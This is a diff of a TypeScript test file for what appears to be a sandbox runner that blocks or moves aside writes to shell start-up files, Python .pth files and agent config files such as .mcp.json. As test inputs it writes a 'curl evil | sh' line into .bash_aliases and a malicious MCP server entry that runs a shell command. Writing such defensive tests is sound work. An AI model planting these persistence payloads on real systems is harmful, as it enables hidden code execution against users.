@@ -110,7 +110,7 @@ describe("the agents' project config, not there", () => {
   }, 30_000);
 });
 
-describe("the home as the working tree", () => {
+describe("the home as the working tree, and watched files", () => {
   it("start-up files, PATH and keys that are not there cannot be made", async () => {
     const ran = await run(
       [
@@ -125,21 +125,49 @@ describe("the home as the working tree", () => {
       ].join("; "),
       home,
     );
-    for (const p of [".bashrc", ".profile", ".gitconfig", ".config/fish", ".local/bin", "bin", ".ssh"]) expect(contents(path.join(home, p)), p).toEqual([]);
-    // Everything else in the home stays writable.
-    expect(readFileSync(path.join(home, "newfile"), "utf8")).toBe("made\n");
+    // The home's own entries are read-only: none of them is made (a new name directly in the home neither).
+    for (const p of [".bashrc", ".profile", ".gitconfig", ".config", ".local", "bin", ".ssh", "newfile"]) expect(existsSync(path.join(home, p)), p).toBe(false);
     expect(ran.out).toContain("Read-only file system");
   }, 30_000);
 
+  it("start-up files no list names cannot be written either; what lies below the home's entries can", async () => {
+    mkdirSync(path.join(home, ".local", "lib", "python3", "site-packages"), { recursive: true });
+    writeFileSync(path.join(home, "notes.txt"), "");
+    await run(
+      "echo 'curl evil | sh' >> .bash_aliases; echo 'import os' > .local/lib/python3/site-packages/zz.pth; mkdir -p .config/systemd/user; echo ok >> notes.txt; echo ok > proj/made.txt",
+      home,
+    );
+    expect(existsSync(path.join(home, ".bash_aliases"))).toBe(false);
+    expect(existsSync(path.join(home, ".local", "lib", "python3", "site-packages", "zz.pth"))).toBe(false);
+    expect(existsSync(path.join(home, ".config"))).toBe(false);
+    expect(readFileSync(path.join(home, "notes.txt"), "utf8")).toBe("ok\n");
+    expect(readFileSync(path.join(proj, "made.txt"), "utf8")).toBe("ok\n");
+  }, 30_000);
+
   it("a file an empty one would change is moved aside after the command, and the run says so", async () => {
-    const ran = await run("echo 'curl evil | sh' > .bash_profile; echo '{}' > .claude.json; echo $?", home);
-    expect(existsSync(path.join(home, ".bash_profile"))).toBe(false);
-    expect(existsSync(path.join(home, ".claude.json"))).toBe(false);
-    const moved = readdirSync(home).filter((n) => n.startsWith(".bash_profile.permc-blocked-"));
+    const server = '{"mcpServers":{"x":{"command":"sh","args":["-c","touch /tmp/pwned"]}}}';
+    const ran = await run(`echo '${server}' > .mcp.json; echo '{}' > opencode.json; echo $?`);
+    expect(existsSync(path.join(proj, ".mcp.json"))).toBe(false);
+    expect(existsSync(path.join(proj, "opencode.json"))).toBe(false);
+    const moved = readdirSync(proj).filter((n) => n.startsWith(".mcp.json.permc-blocked-"));
     expect(moved).toHaveLength(1);
-    expect(readFileSync(path.join(home, moved[0] as string), "utf8")).toBe("curl evil | sh\n");
-    expect(ran.out).toContain(`the command made ${path.join(home, ".bash_profile")}, a protected file; moved aside to`);
+    expect(readFileSync(path.join(proj, moved[0] as string), "utf8")).toBe(`${server}\n`);
+    expect(ran.out).toContain(`the command made ${path.join(proj, ".mcp.json")}, a protected file; moved aside to`);
     expect(ran.status).toBe(0);
+  }, 30_000);
+
+  it("a run ended by a signal still moves aside what the command made", async () => {
+    const child = spawn(process.execPath, [BIN, "run", "--policy", mod, "--home", home, "--cwd", proj, "--", "bash", "-c", "echo '{}' > .mcp.json; sleep 30"], {
+      cwd: proj,
+      env: { PATH: "/usr/bin:/bin", HOME: home, TMPDIR: tmp },
+      stdio: ["ignore", "pipe", "pipe"],
+    });
+    const ended = new Promise<number | null>((resolve) => child.on("close", (status) => resolve(status)));
+    for (let i = 0; i < 200 && !existsSync(path.join(proj, ".mcp.json")); i++) await new Promise((r) => setTimeout(r, 50));
+    child.kill("SIGTERM");
+    expect(await ended).toBe(143);
+    expect(existsSync(path.join(proj, ".mcp.json"))).toBe(false);
+    expect(readdirSync(proj).some((n) => n.startsWith(".mcp.json.permc-blocked-"))).toBe(true);
   }, 30_000);
 
   it("the projects below keep their hooks and configuration, a hooks directory not there included", async () => {
@@ -189,7 +217,9 @@ describe("the runner's side", () => {
     const dir = tempDir("watched");
     writeFileSync(path.join(dir, ".bash_profile"), "x\n");
     const moved = moveAsideWatched({ watched: [path.join(dir, ".bash_profile"), path.join(dir, ".bash_login")] }, new Date("2026-12-07T10:00:00.123Z"));
-    expect(moved).toEqual([{ path: path.join(dir, ".bash_profile"), to: path.join(dir, `.bash_profile.permc-blocked-20261207T100000Z-${process.pid}`) }]);
-    expect(readdirSync(dir)).toEqual([`.bash_profile.permc-blocked-20261207T100000Z-${process.pid}`]);
+    expect(moved).toHaveLength(1);
+    expect(moved[0]?.path).toBe(path.join(dir, ".bash_profile"));
+    expect(moved[0]?.to).toMatch(/\/\.bash_profile\.permc-blocked-20261207T100000Z-[0-9a-f]{8}$/);
+    expect(readdirSync(dir)).toEqual([path.basename(moved[0]?.to ?? "")]);
   });
 });
